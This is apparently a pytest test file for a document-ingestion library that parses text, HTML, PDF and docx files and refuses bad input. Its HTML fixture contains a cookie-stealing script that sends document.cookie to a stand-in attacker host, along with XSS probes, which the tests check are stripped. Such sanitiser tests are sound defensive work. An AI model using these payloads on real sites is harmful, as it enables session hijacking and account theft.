"""Each format's reader on real files, and every kind of bad input refused with a clear reason."""

from __future__ import annotations

import io
import zipfile

import pytest

from testimonia import errors
from testimonia.ingest import parse_bytes
from testimonia.ingest.meta import from_text, guess_language
from tests.conftest import make_docx, make_pdf

STATEMENT = "The report counted 181 bodies in Ağdam; witnesses spoke of Xocalı and Ходжалы."


@pytest.mark.parametrize(
    ("encoding", "expected"),
    [("utf-8", "utf-8"), ("utf-8-sig", "utf-8-sig"), ("utf-16", "utf-16")],
)
def test_text_is_decoded_unchanged(encoding, expected):
    text = "line one\r\n" + STATEMENT + "\n"
    parsed = parse_bytes(text.encode(encoding), "txt", "doc.txt")
    assert parsed.text == text  # no newline or space is touched: spans index the file's own text
    assert parsed.encoding == expected


def test_other_encodings_are_detected_and_named():
    text = "Свидетели рассказали о событиях в Ходжалы в феврале 1992 года. " * 5
    parsed = parse_bytes(text.encode("cp1251"), "txt", "ru.txt")
    assert parsed.text == text
    assert parsed.encoding in {"cp1251", "windows-1251"}


def test_markdown_is_kept_as_written():
    text = "# Halabja\n\nAbout **5,000** people were killed on 16 March 1988.\n"
    assert parse_bytes(text.encode(), "md", "h.md").text == text


HTML = b"""<!doctype html><html lang="en-GB"><head><meta charset="utf-8">
<title>Remembering Khojaly | Example Daily</title>
<meta property="og:site_name" content="Example Daily">
<meta property="article:published_time" content="2024-02-26T08:15:00+04:00">
<link rel="canonical" href="https://news.example.org/khojaly">
<script>document.location='https://evil.example/steal?c='+document.cookie</script>
<style>p { color: red }</style></head>
<body><nav><a href="/">Home</a> <a href="/world">World</a></nav>
<header>Example Daily - Subscribe now</header>
<article><h1>Remembering Khojaly</h1>
<p>The <em>government</em>, in a statement, said 613 people<br>were killed.</p>
<p>Human Rights Watch wrote that at least 161 civilians died. <img src=x onerror="alert(1)"></p>
<p>A reader wrote &lt;script&gt;alert(1)&lt;/script&gt; in the comments.</p>
<script>alert('inline')</script>
</article><aside>Most read</aside><footer>(c) Example Daily</footer></body></html>"""


def test_html_keeps_the_article_and_drops_scripts_and_furniture():
    parsed = parse_bytes(HTML, "html", "k.html")
    assert parsed.text.split("\n\n") == [
        "Remembering Khojaly",
        "The government, in a statement, said 613 people were killed.",
        "Human Rights Watch wrote that at least 161 civilians died.",
        "A reader wrote <script>alert(1)</script> in the comments.",  # text that shows markup stays text
    ]
    for dropped in ("document.cookie", "alert('inline')", "Subscribe", "Most read", "Home", "color: red", "onerror"):
        assert dropped not in parsed.text
    assert parsed.meta.title == "Remembering Khojaly | Example Daily"
    assert parsed.meta.published == "2024-02-26"
    assert parsed.meta.publisher == "Example Daily"
    assert parsed.meta.url == "https://news.example.org/khojaly"
    assert parsed.meta.language == "en"


def test_html_date_from_json_ld_and_declared_charset():
    page = (
        '<html><head><meta charset="windows-1251"><script type="application/ld+json">'
        '{"@type": "NewsArticle", "datePublished": "2022-02-25"}</script></head>'
        "<body><p>Ходжалы, 1992.</p></body></html>"
    ).encode("cp1251")
    parsed = parse_bytes(page, "html", "ru.html")
    assert parsed.text == "Ходжалы, 1992."
    assert parsed.meta.published == "2022-02-25"
    assert parsed.encoding == "windows-1251"


def test_pdf_text_layer():
    data = make_pdf(["Memorial counted 181 bodies in Ağdam.", "Xocalı, 25–26 February 1992."])
    parsed = parse_bytes(data, "pdf", "m.pdf")
    assert "Memorial counted 181 bodies in Ağdam." in parsed.text
    assert "Xocalı" in parsed.text


def test_docx_paragraphs_tables_and_title():
    data = make_docx(["Halabja, 16 March 1988.", "About 5,000 people were killed."], title="Halabja", table=[["killed", "5,000"]])
    parsed = parse_bytes(data, "docx", "h.docx")
    assert parsed.text == "Halabja, 16 March 1988.\n\nAbout 5,000 people were killed.\n\nkilled | 5,000"
    assert parsed.meta.title == "Halabja"


def _corrupt_docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("hello.txt", "a zip, but not a word document")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "fmt", "error", "words"),
    [
        (b"", "txt", errors.EmptyFile, "empty"),
        (b"  \n\t \n", "md", errors.EmptyFile, "empty"),
        (bytes(range(256)) * 8, "txt", errors.BinaryFile, "binary"),
        (b"\x89PNG\r\n\x1a\n" + b"\x01\x02\x03" * 500, "txt", errors.BinaryFile, "binary"),
        (b"\xff\xfeT\x00e\x00x\x00t", "txt", errors.UndecodableText, "encoding could not be determined"),
        (b"%PDF-1.7\n1 0 obj << /Type /Catalog", "pdf", errors.CorruptFile, "corrupt"),
        (b"<html>not a pdf</html>", "pdf", errors.CorruptFile, "no PDF header"),
        (make_pdf([], text_layer=False), "pdf", errors.NoTextLayer, "no text layer"),
        (make_pdf(["Some text here."])[:400], "pdf", errors.CorruptFile, "corrupt"),
        (b"PK\x03\x04 truncated", "docx", errors.CorruptFile, "corrupt"),
        (_corrupt_docx(), "docx", errors.CorruptFile, "corrupt"),
        (b"<html><script>alert(1)</script><nav>menu</nav></html>", "html", errors.EmptyFile, "no readable text"),
    ],
    ids=["empty", "whitespace", "binary-junk", "png-as-txt", "broken-utf16", "corrupt-pdf", "html-as-pdf", "scan-pdf", "truncated-pdf", "truncated-docx", "zip-not-docx", "script-only-html"],
)
def test_bad_input_is_refused_with_the_file_reason_and_fix(data, fmt, error, words):
    with pytest.raises(error) as caught:
        parse_bytes(data, fmt, "inbox/bad-file")
    message = str(caught.value)
    assert message.startswith("inbox/bad-file: ")
    assert words in message
    assert "Fix: " in message and "\n" not in message


def test_text_says_its_own_date_and_language():
    meta = from_text(" date 2026-02-26 34 years ago, on the night of 25–26 February, the town was attacked by the forces of the army and the people of the town were killed.")
    assert meta.published == "2026-02-26"
    assert meta.language == "en"
    assert from_text("date 2026-02-30 is not a day").published is None
    assert guess_language("Ходжалы " * 40) is None
